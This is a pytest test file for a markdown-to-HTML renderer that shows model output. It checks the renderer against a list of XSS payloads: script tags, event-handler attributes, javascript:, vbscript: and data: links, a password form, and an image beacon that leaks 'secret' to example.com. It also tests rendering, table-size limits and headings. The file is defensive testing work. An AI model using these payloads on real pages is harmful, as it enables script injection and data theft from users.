"""What a model wrote becomes HTML that can be shown: nothing in it runs, loads, or breaks the page around it."""

from __future__ import annotations

import asyncio

import pytest

from ownkey.web.markdown import all_to_html, to_html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)></svg>",
        "<iframe src=//example.com></iframe>",
        "<style>body { display: none }</style>",
        "<form action=//example.com><input name=password></form>",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:alert(1))",
        "<javascript:alert(1)>",
        "![beacon](https://example.com/leak?said=secret)",
        "[![beacon](https://example.com/leak)](https://example.com)",
        '```"><script>alert(1)</script>\ncode\n```',
        "| a |\n| - |\n| <b onclick=alert(1)>x</b> |",
        "[a]: javascript:alert(1)\n[a]",
    ],
)
def test_nothing_runs_and_nothing_is_loaded(text: str) -> None:
    """No tag, address or attribute that could run a script, load something or take the page's place survives."""
    html = to_html(text).lower()
    for forbidden in ("<script", "<img", "<svg", "<iframe", "<style", "<form", "<input", "<b "):
        assert forbidden not in html
    for address in ("javascript:", "vbscript:", "data:"):
        assert f'href="{address}' not in html


def test_what_people_expect() -> None:
    """Emphasis, lists, code, tables and links are shown as such; links tell nobody where they were followed from."""
    html = to_html("**b** *i* ~~s~~ `c`\n\n1. one\n\n- two\n\n| h |\n| - |\n| d |\n\n[l](https://example.com)")
    for tag in ("<strong>b</strong>", "<em>i</em>", "<s>s</s>", "<code>c</code>", "<ol>", "<ul>", "<th>h</th>"):
        assert tag in html
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">l</a>' in html


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("between", ["", "\xa0", "> "])
def test_a_small_text_makes_no_huge_page(between: str, end: str) -> None:
    """A table whose few lines would have hundreds of thousands of cells stays text; others in its place are tables."""
    huge = end.join(["a|" * 300, "-|" * 300, *["x", between] * 300, ""])
    for text in (huge, (huge + end * 2) * 3):
        assert len(to_html(text)) < 5 * len(text)
    rows = [f"| {number} | is | a | row |" for number in range(1_000)]
    assert to_html(end.join(["| a | b | c | d |", "|-|-|-|-|", *rows])).count("<tr>") == 1_001


@pytest.mark.parametrize(
    ("text", "top", "tags"),
    [
        ("# a\n\n## b", 1, ["<h1>a</h1>", "<h2>b</h2>"]),
        ("# a\n\n#### b", 3, ["<h3>a</h3>", "<h4>b</h4>"]),
        ("### a\n\n# b", 3, ["<h4>a</h4>", "<h3>b</h3>"]),
        ("# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5", 3, ["<h6>4</h6>", "<h6>5</h6>"]),
    ],
)
def test_headings_fit_below_those_around_them(text: str, top: int, tags: list[str]) -> None:
    """Headings begin at the level asked for, and close up levels that were skipped."""
    html = to_html(text, top_heading=top)
    for tag in tags:
        assert tag in html


def test_what_scrolls_can_be_reached() -> None:
    """Code and tables scroll inside their box, and can be reached with the keyboard."""
    html = to_html("```\nlong\n```\n\n| a |\n| - |\n| b |")
    assert '<pre tabindex="0">' in html
    assert '<table tabindex="0">' in html


@pytest.mark.anyio
async def test_long_texts_hold_nobody_up() -> None:
    """While many answers become HTML, the process does everything else; they come in their order."""
    rendering = asyncio.create_task(all_to_html([f"*{number}* " + "word " * 2_000 for number in range(50)]))
    turns = 0
    while not rendering.done():
        await asyncio.sleep(0)
        turns += 1
    assert turns > 10
    assert [html[:20].split("</em>")[0] for html in await rendering] == [f"<p><em>{number}" for number in range(50)]
